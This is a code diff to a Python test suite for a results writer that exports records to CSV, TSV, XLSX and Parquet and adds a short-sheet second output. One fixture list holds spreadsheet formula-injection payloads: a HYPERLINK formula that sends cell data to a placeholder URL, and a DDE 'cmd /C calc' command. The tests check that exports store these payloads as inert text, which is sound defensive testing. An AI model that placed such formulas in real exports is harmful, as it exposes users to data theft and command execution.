@@ -106,7 +106,8 @@ def test_parquet_schema_is_typed(tmp_path: Path) -> None:
     schema = pl.read_parquet_schema(out)
     assert schema["row"] == pl.Int64 and schema["http_status"] == pl.Int64
     assert schema["attempts"] == pl.Int64 and schema["verified_phone"] == pl.Boolean
-    others = set(RESULT_COLUMNS) - {"row", "http_status", "attempts", "verified_phone"}
+    assert schema["line"] == pl.Int64
+    others = set(RESULT_COLUMNS) - {"row", "line", "http_status", "attempts", "verified_phone"}
     assert {schema[name] for name in others} == {pl.String}
 
 
@@ -146,7 +147,8 @@ def test_xlsx_cells_are_text_header_bold_frozen_filtered_and_fitted(tmp_path: Pa
         assert cells[name].data_type == "s", name
     assert cells["phone"].value == "+442079460958"
     assert cells["phone_input"].value == "0044 20 7946 0958"
-    assert cells["loginId"].value == "'=HYPERLINK(1)"  # text, not a formula, and defused
+    # a string cell is never a formula: the value as it is, no quote for a person to copy
+    assert (cells["loginId"].data_type, cells["loginId"].value) == ("s", "=HYPERLINK(1)")
     assert (cells["row"].data_type, cells["row"].value) == ("n", 1)
     # booleans are text, as in CSV and as verified_before: what the README says
     assert (cells["verified_phone"].data_type, cells["verified_phone"].value) == ("s", "true")
@@ -196,7 +198,7 @@ def test_csv_is_rfc4180(tmp_path: Path) -> None:
     out = tmp_path / "result.csv"
     write_results([_record(1, error_message='bad "quote", and\nnewline')], out)
     raw = out.read_bytes()
-    assert raw.startswith(b"row,loginId,") and b"\r\n" in raw and not raw.startswith(b"\xef")
+    assert raw.startswith(b"row,line,loginId,") and b"\r\n" in raw and not raw.startswith(b"\xef")
     assert b'"bad ""quote"", and\nnewline"' in raw
     assert _read(out)[0]["error_message"] == 'bad "quote", and\nnewline'
 
@@ -376,6 +378,7 @@ EVIL = ['+HYPERLINK("http://x?"&A1,"y")', "-2+3+cmd|' /C calc'!A0"]
 
 @pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
 def test_every_text_column_is_defused_for_spreadsheets(tmp_path: Path, fmt: str) -> None:
+    """CSV and TSV get a quote before a formula; XLSX string cells hold the value itself."""
     out = tmp_path / f"result.{fmt}"
     columns = (*RESULT_COLUMNS, "phone_before", "verified_before")
     record = _record(
@@ -394,13 +397,14 @@ def test_every_text_column_is_defused_for_spreadsheets(tmp_path: Path, fmt: str)
         columns=columns,
     )
     rows = _read(out)
-    assert rows[0]["loginId"] == "'" + EVIL[0]
-    assert rows[0]["user_id"] == "'" + EVIL[1]
-    assert rows[0]["error_message"] == "'=1+1"
-    assert rows[0]["error_code"] == "'@x"
-    assert rows[0]["user"] == '\'+{"a":1}'
-    assert rows[0]["phone_before"] == "'-1+1"  # not phone-shaped: a + inside
-    assert rows[1]["loginId"] == "'" + EVIL[1]
+    quote = "" if fmt == "xlsx" else "'"
+    assert rows[0]["loginId"] == quote + EVIL[0]
+    assert rows[0]["user_id"] == quote + EVIL[1]
+    assert rows[0]["error_message"] == quote + "=1+1"
+    assert rows[0]["error_code"] == quote + "@x"
+    assert rows[0]["user"] == quote + '+{"a":1}'
+    assert rows[0]["phone_before"] == quote + "-1+1"  # not phone-shaped: a + inside
+    assert rows[1]["loginId"] == quote + EVIL[1]
     # phone-shaped values stay exact
     assert rows[0]["phone"] == "+442079460958"
     assert rows[0]["phone_input"] == "+44 20 7946 0958"
@@ -481,3 +485,37 @@ def test_rows_in_order_join_the_sorted_records_without_a_sort(
         "not_attempted",
     ]
     assert sorted_records == [5, 2, 5]  # only the journal's records were sorted
+
+
+@pytest.mark.parametrize(
+    ("full", "brief"), [("csv", "xlsx"), ("parquet", "csv"), ("xlsx", "jsonl")]
+)
+def test_a_short_sheet_is_the_same_rows_in_a_second_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, full: str, brief: str
+) -> None:
+    monkeypatch.setattr(writer, "_RUN_BYTES", 2_000)  # spilled sort runs too
+    monkeypatch.setattr(writer, "_BLOCK", 7)  # several spilled blocks of the short sheet
+    out, short = tmp_path / f"result.{full}", tmp_path / f"short.{brief}"
+    records = [_record(row, line=row + 1) for row in range(60, 0, -1)]
+    records.append(_record(5, status="failed", line=6))  # the last record of a row wins
+    sheet = writer.ShortSheet(short, ("status", "row", "phone_before", "line"))
+    assert write_results(records, out, short=sheet) == 60
+    rows, brief_rows = _read(out), _read(short)
+    assert list(rows[0]) == list(RESULT_COLUMNS)  # the result keeps every column
+    assert list(brief_rows[0]) == ["status", "row", "phone_before", "line"]
+    assert [(str(r["status"]), str(r["row"]), str(r["line"])) for r in brief_rows] == [
+        (str(r["status"]), str(r["row"]), str(r["line"])) for r in rows
+    ]
+    assert brief_rows[4]["status"] == "failed" and brief_rows[0]["phone_before"] is None
+    assert stat.S_IMODE(short.stat().st_mode) == 0o600
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([out.name, short.name])
+
+
+def test_short_sheet_paths(tmp_path: Path) -> None:
+    out = tmp_path / "r.csv"
+    assert writer.short_sheet(out, None, None) is None
+    assert writer.short_sheet(None, None, ("row",)) is None  # validate without --out
+    beside = writer.short_sheet(out, None, ("row", "status"))
+    assert beside == writer.ShortSheet(tmp_path / "r.short.csv", ("row", "status"))
+    named = writer.short_sheet(out, tmp_path / "s.xlsx", None)
+    assert named == writer.ShortSheet(tmp_path / "s.xlsx", writer.SHORT_COLUMNS)
